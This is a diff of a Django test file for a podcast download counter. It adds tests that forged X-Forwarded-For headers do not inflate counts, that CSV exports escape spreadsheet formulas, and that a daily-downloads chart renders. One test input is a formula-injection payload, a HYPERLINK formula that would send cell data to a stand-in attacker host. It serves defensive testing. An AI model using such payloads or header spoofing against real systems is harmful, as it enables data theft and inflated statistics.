@@ -1,5 +1,6 @@
 """The counting redirect: audio always plays, downloads count by IAB rules, no IP is kept."""
 
+import csv
 import datetime
 import logging
 
@@ -10,7 +11,9 @@ from django.core.management import CommandError, call_command
 from django.db import connection
 from django.urls import reverse
 from django.utils import timezone
+from django.utils.formats import date_format
 
+from core import roles
 from podcast.models import DailyDownloads, DownloadHit, DownloadSalt
 
 LISTENER = {"REMOTE_ADDR": "203.0.113.7", "HTTP_USER_AGENT": "AntennaPod/3.4"}
@@ -92,7 +95,7 @@ def test_no_ip_or_user_agent_is_stored_and_old_salts_are_dropped(client, episode
 
 
 def test_listeners_behind_the_proxy_are_told_apart(client, episode, settings):
-    settings.PODCAST_PROXY_COUNT = 1
+    settings.TRUSTED_PROXY_COUNT = 1
     for address in ("192.0.2.1", "192.0.2.2", "192.0.2.2"):
         client.get(
             audio_path(episode),
@@ -101,6 +104,27 @@ def test_listeners_behind_the_proxy_are_told_apart(client, episode, settings):
             HTTP_USER_AGENT="Podcasts/1.0",
         )
     assert counted(episode) == 2
+
+
+def test_forged_forwarded_headers_do_not_inflate_counts(client, episode, settings):
+    """Around the proxy (a public socket address), or with an entry that is not an address,
+    the header is not believed: one listener, one download."""
+    settings.TRUSTED_PROXY_COUNT = 1
+    for number in range(3):
+        client.get(
+            audio_path(episode),
+            REMOTE_ADDR="93.184.216.34",
+            HTTP_X_FORWARDED_FOR=f"192.0.2.{number}",
+            HTTP_USER_AGENT="Podcasts/1.0",
+        )
+    for forged in ("nope", "1.2.3.4, 192.0.2.999"):
+        client.get(
+            audio_path(episode),
+            REMOTE_ADDR="10.0.0.1",
+            HTTP_X_FORWARDED_FOR=forged,
+            HTTP_USER_AGENT="Podcasts/1.0",
+        )
+    assert counted(episode) == 2  # 93.184.216.34 once, the proxy's own address once
 
 
 def test_a_counting_failure_still_redirects(client, episode, caplog):
@@ -125,7 +149,7 @@ def test_the_player_and_download_link_go_through_the_counter(client, episode):
 @pytest.fixture
 def editor_client(client, django_user_model):
     user = django_user_model.objects.create_user("redacteur", password="x")
-    user.groups.add(Group.objects.get(name="Editors"))
+    user.groups.add(Group.objects.get(name=roles.EDITORS))
     client.force_login(user)
     return client
 
@@ -151,6 +175,17 @@ def test_editors_see_downloads_per_episode(editor_client, episode, make_episode)
     assert "Trésorerie" in b"".join(export.streaming_content).decode()
 
 
+def test_the_downloads_csv_guards_formulas_like_every_csv_of_the_site(editor_client, make_episode):
+    make_episode(title='=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")')
+    make_episode(title="-1 000 euros de charges")
+    export = editor_client.get(reverse("podcast_downloads_report") + "?export=csv")
+    rows = list(csv.reader(b"".join(export.streaming_content).decode().splitlines()))
+    titles = {row[0] for row in rows[1:]}
+    assert '\'=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")' in titles
+    assert "'-1 000 euros de charges" in titles
+    assert set(rows[1][2:]) == {"0"}  # numbers stay numbers
+
+
 def test_purge_keeps_daily_totals(client, episode):
     old = timezone.now() - datetime.timedelta(days=400)
     with time_machine.travel(old, tick=False):
@@ -164,3 +199,42 @@ def test_purge_keeps_daily_totals(client, episode):
 
     with pytest.raises(CommandError, match="au moins un jour"):
         call_command("purge_download_hits", days=0)
+
+
+def test_the_report_draws_daily_downloads_with_their_table(editor_client, episode, make_episode):
+    other = make_episode(title="Autre épisode")
+    today = timezone.localdate()
+    episode.first_published_at = timezone.now() - datetime.timedelta(days=40)
+    episode.save(update_fields=["first_published_at"])
+    published = timezone.localtime(episode.first_published_at).date()
+    for day, downloads in [(published, 4), (published + datetime.timedelta(days=6), 2)]:
+        DailyDownloads.objects.create(episode=episode, day=day, downloads=downloads)
+    DailyDownloads.objects.create(  # day 8 counts in the first 30 days, not the first 7
+        episode=episode, day=published + datetime.timedelta(days=8), downloads=5
+    )
+    DailyDownloads.objects.create(episode=episode, day=today, downloads=7)
+    DailyDownloads.objects.create(episode=other, day=today, downloads=3)
+
+    response = editor_client.get(reverse("podcast_downloads_report"))
+    rows = {row.title: row for row in response.context["object_list"]}
+    assert rows["Trésorerie"].downloads_first_7 == 6
+    assert rows["Trésorerie"].downloads_first_30 == 11
+    html = response.content.decode()
+    assert '<svg role="img" aria-labelledby="downloads-chart-svg-title' in html
+    assert "10 téléchargements en 30 jours, au plus 10 par jour." in html
+    assert f"<td>{date_format(today, 'l j F Y')}</td><td>10</td>" in html
+    assert "toute l'émission" in html
+
+    one = editor_client.get(reverse("podcast_downloads_report"), {"courbe": other.pk})
+    assert "3 téléchargements en 30 jours" in one.content.decode()
+    assert "« Autre épisode »" in one.content.decode()
+
+    for bad in ("abc", "999999"):
+        response = editor_client.get(reverse("podcast_downloads_report"), {"courbe": bad})
+        assert response.status_code == 200
+        html = response.content.decode()
+        assert "Cet épisode n&#x27;existe pas" in html
+        assert "10 téléchargements en 30 jours" in html
+
+    export = editor_client.get(reverse("podcast_downloads_report") + "?export=csv")
+    assert "30 premiers jours après publication" in b"".join(export.streaming_content).decode()
